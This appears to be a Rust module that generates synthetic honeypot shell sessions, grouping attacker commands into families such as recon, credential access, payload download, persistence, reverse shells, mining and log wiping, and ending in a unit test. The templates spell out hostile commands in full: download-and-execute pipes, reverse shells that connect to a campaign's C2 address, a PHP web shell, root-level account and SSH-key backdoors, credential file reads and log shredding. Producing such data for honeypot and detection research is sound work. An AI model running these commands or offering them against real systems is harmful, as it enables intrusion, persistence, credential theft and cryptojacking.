//! Shell commands of honeypot sessions, by family, in the style of a campaign.
//!
//! The families are what operators of SSH / Telnet honeypots see day to day: mostly noise
//! (typos, `ls`, bot probes that print a marker), host and user reconnaissance, credential
//! hunting, payload downloads, persistence, reverse shells, miners and log wiping. A
//! campaign's style fills in its download host, drop directory, payload name, C2 address,
//! pool and SSH key, so the sessions of one campaign look alike.

use std::fmt::Write as _;

use super::fleet::{Style, FAMILIES};
use super::rng::Rng;

/// The families, in the order of [`Style::families`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Family {
    Noise,
    Recon,
    Discovery,
    CredentialAccess,
    PrivilegeEscalation,
    Download,
    Persistence,
    ReverseShell,
    LogWiping,
    Miner,
    Scan,
}

const ALL: [Family; FAMILIES] = [
    Family::Noise,
    Family::Recon,
    Family::Discovery,
    Family::CredentialAccess,
    Family::PrivilegeEscalation,
    Family::Download,
    Family::Persistence,
    Family::ReverseShell,
    Family::LogWiping,
    Family::Miner,
    Family::Scan,
];

/// A family drawn by the style's weights.
pub fn family(style: &Style, rng: &mut Rng) -> Family {
    ALL[rng.weighted(&style.families)]
}

const NOISE: &[&str] = &[
    "ls",
    "ls -la",
    "pwd",
    "cd /tmp",
    "cd ~",
    "exit",
    "clear",
    "df -h",
    "free -m",
    "uptime",
    "top -bn1 | head -n 5",
    "htop",
    "cat README",
    "echo ok",
    "date",
    "history",
    "enable",
    "system",
    "shell",
    "sh",
    "linuxshell",
    "/bin/busybox QXNPT",
    "cat /proc/mounts",
    "ping -c 3 8.8.8.8",
    "apt-get update",
    "nano notes.txt",
    "mkdir .tmp",
    "touch /tmp/.t && rm /tmp/.t",
    "which python3 perl",
    "echo -e '\\x68\\x6f\\x6e\\x65\\x79'",
    "ls /home",
    "cd /; ls",
    "sl",
    "sudo",
    "lls",
    "vim",
    "exit 0",
    "logout",
];

const RECON: &[&str] = &[
    "uname -a",
    "uname -m",
    "uname -s -r",
    "cat /proc/cpuinfo | grep 'model name' | head -n 1",
    "lscpu",
    "nproc",
    "cat /etc/os-release",
    "hostnamectl",
    "cat /proc/version",
    "lsb_release -a",
    "cat /etc/issue",
    "cat /proc/meminfo | head -n 2",
    "dmidecode -t system",
];

const DISCOVERY: &[&str] = &[
    "id",
    "whoami",
    "w",
    "who",
    "last",
    "cat /etc/passwd",
    "getent passwd",
    "ifconfig",
    "ip a",
    "ip route",
    "arp -a",
    "netstat -tulpn",
    "netstat -an | grep LISTEN",
    "ss -tunap",
    "cat /etc/resolv.conf",
    "cat /etc/hosts",
    "lsof -i",
    "ps aux",
    "groups",
    "echo $USER",
    "smbclient -L //10.0.0.5 -N",
    "net view",
    "ldapsearch -x -H ldap://10.0.0.2 -b dc=corp,dc=local '(objectClass=user)'",
    "nltest /domain_trusts",
];

const CREDENTIAL_ACCESS: &[&str] = &[
    "cat /etc/shadow",
    "find / -name id_rsa 2>/dev/null",
    "locate id_rsa",
    "grep -ri password /var/www 2>/dev/null | head",
    "find /home -name '*.kdbx' 2>/dev/null",
    "cat ~/.aws/credentials",
    "ls -laR /root/",
    "tar czf /tmp/.k.tgz ~/.ssh",
    "cat ~/.bash_history",
    "cat /root/.mysql_history",
];

const PRIVILEGE_ESCALATION: &[&str] = &[
    "sudo -l",
    "find / -perm -4000 -type f 2>/dev/null",
    "find / -perm -u=s -type f 2>/dev/null",
    "sudo su",
    "cat /etc/sudoers",
    "sudo -u#-1 /bin/bash",
];

const LOG_WIPING: &[&str] = &[
    "history -c",
    "unset HISTFILE",
    "export HISTFILE=/dev/null",
    "rm -f ~/.bash_history",
    "cat /dev/null > ~/.bash_history",
    "ln -sf /dev/null ~/.bash_history",
    "echo > /var/log/wtmp",
    "shred -u /var/log/auth.log",
    "history -c && exit",
    "export HISTSIZE=0",
];

const SCAN_TARGETS: &[&str] = &["10.0.0.0/24", "192.168.1.0/24", "172.16.0.0/16", "10.10.0.0/16"];

/// The style's download command for `url`.
fn fetch(style: &Style, out: &mut String, url: std::fmt::Arguments<'_>, to: Option<&str>) {
    let _ = match (style.fetch, to) {
        (0, None) => write!(out, "wget {url}"),
        (0, Some(to)) => write!(out, "wget -q {url} -O {to}"),
        (1, None) => write!(out, "curl -fsSLO {url}"),
        (1, Some(to)) => write!(out, "curl -fsSL {url} -o {to}"),
        (_, None) => write!(out, "busybox wget {url}"),
        (_, Some(to)) => write!(out, "busybox wget {url} -O {to}"),
    };
}

fn fetch_tool(style: &Style) -> &'static str {
    match style.fetch {
        0 => "wget -qO-",
        1 => "curl -fsSL",
        _ => "busybox wget -qO-",
    }
}

/// Writes one command of `family` into `out` (cleared first).
pub fn write(family: Family, style: &Style, rng: &mut Rng, out: &mut String) {
    out.clear();
    let (host, dir, payload) = (style.dl_host.as_str(), style.drop_dir, style.payload);
    let (ip, port) = (style.c2_ip.as_str(), style.c2_port);
    let _ = match family {
        Family::Noise => write!(out, "{}", rng.pick(NOISE)),
        Family::Recon => write!(out, "{}", rng.pick(RECON)),
        Family::Discovery => write!(out, "{}", rng.pick(DISCOVERY)),
        Family::CredentialAccess => write!(out, "{}", rng.pick(CREDENTIAL_ACCESS)),
        Family::PrivilegeEscalation => write!(out, "{}", rng.pick(PRIVILEGE_ESCALATION)),
        Family::LogWiping => write!(out, "{}", rng.pick(LOG_WIPING)),
        Family::Download => match rng.below(7) {
            0 => {
                fetch(style, out, format_args!("http://{host}/{payload}"), None);
                Ok(())
            }
            1 => {
                fetch(style, out, format_args!("http://{host}/{payload}"), Some(&format!("{dir}/{payload}")));
                Ok(())
            }
            2 => {
                let _ = write!(out, "cd {dir}; ");
                fetch(style, out, format_args!("http://{host}/{payload}"), None);
                write!(out, "; chmod +x {payload}; ./{payload}")
            }
            3 => write!(out, "{} http://{host}/{payload} | sh", fetch_tool(style)),
            4 => write!(out, "cd {dir} && tftp -g -r {payload} {ip}"),
            5 => write!(out, "scp -P 2222 dl@{ip}:/srv/{payload} {dir}/"),
            _ => write!(out, "{} http://{ip}:{port}/{payload} > {dir}/.x; sh {dir}/.x", fetch_tool(style)),
        },
        Family::Persistence => match rng.below(9) {
            0 => write!(
                out,
                "(crontab -l 2>/dev/null; echo \"*/10 * * * * {} http://{host}/{payload} | sh\") | crontab -",
                fetch_tool(style)
            ),
            1 => write!(out, "echo '@reboot root {dir}/{payload}' >> /etc/crontab"),
            2 => write!(out, "useradd -m -s /bin/bash {}", style.persist_user),
            3 => write!(out, "echo '{}:x:0:0::/root:/bin/bash' >> /etc/passwd", style.persist_user),
            4 => write!(out, "mkdir -p ~/.ssh; echo \"{}\" >> ~/.ssh/authorized_keys", style.ssh_key),
            5 => write!(out, "chattr -ia ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys"),
            6 => write!(out, "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/.{}.php", style.service_name),
            7 => write!(out, "redis-cli -h 127.0.0.1 config set dir /root/.ssh/"),
            _ => write!(out, "cp {dir}/{payload} /etc/init.d/{0}; systemctl enable {0}", style.service_name),
        },
        Family::ReverseShell => match rng.below(6) {
            0 => write!(out, "bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
            1 => write!(out, "nc -e /bin/sh {ip} {port}"),
            2 => write!(out, "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc {ip} {port} > /tmp/p"),
            3 => write!(
                out,
                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));\
                 [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
            ),
            4 => write!(out, "socat tcp-connect:{ip}:{port} exec:/bin/bash,pty,stderr"),
            _ => write!(out, "sh -c 'sh -i >& /dev/udp/{ip}/{port} 0>&1'"),
        },
        Family::Miner => match rng.below(6) {
            0 => write!(
                out,
                "nohup {dir}/xmrig -o {} -u {} -p x --donate-level 1 >/dev/null 2>&1 &",
                style.pool, style.wallet
            ),
            1 => write!(out, "{dir}/.kworker -B -o stratum+tcp://{} -u {}", style.pool, style.wallet),
            2 => write!(out, "pkill -9 xmrig; pkill -9 kdevtmpfsi; pkill -f kinsing"),
            3 => write!(out, "chmod +x {dir}/xmrig && {dir}/xmrig --threads=$(nproc)"),
            4 => write!(out, "{} http://{host}/xm.sh | bash -s {}", fetch_tool(style), style.wallet),
            _ => write!(out, "echo 'vm.nr_hugepages=1280' >> /etc/sysctl.conf"),
        },
        Family::Scan => match rng.below(4) {
            0 => write!(out, "nmap -sS -p 22,80,443 {}", rng.pick(SCAN_TARGETS)),
            1 => write!(out, "masscan {} -p22,2375 --rate 10000", rng.pick(SCAN_TARGETS)),
            2 => write!(out, "nc -zv 10.0.0.{} 1-1024", rng.range(1, 254)),
            _ => write!(out, "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done"),
        },
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::fleet::Fleet;

    #[test]
    fn every_family_writes_commands_in_the_campaign_style() {
        let fleet = Fleet::new(11, 10, 2, 2, 0);
        let style = &fleet.styles[0];
        let mut rng = Rng::new(3);
        let mut out = String::new();
        for family in ALL {
            let mut texts = std::collections::BTreeSet::new();
            for _ in 0..200 {
                write(family, style, &mut rng, &mut out);
                assert!(!out.is_empty() && !out.contains('\n'), "{family:?}: {out:?}");
                texts.insert(out.clone());
            }
            assert!(texts.len() >= 4, "{family:?} has variety: {texts:?}");
            if family == Family::Download {
                assert!(texts.iter().any(|t| t.contains(&style.dl_host)), "downloads use the campaign's host");
            }
            if family == Family::ReverseShell {
                assert!(texts.iter().all(|t| t.contains(&style.c2_ip)), "shells call the campaign's C2");
            }
        }
    }
}
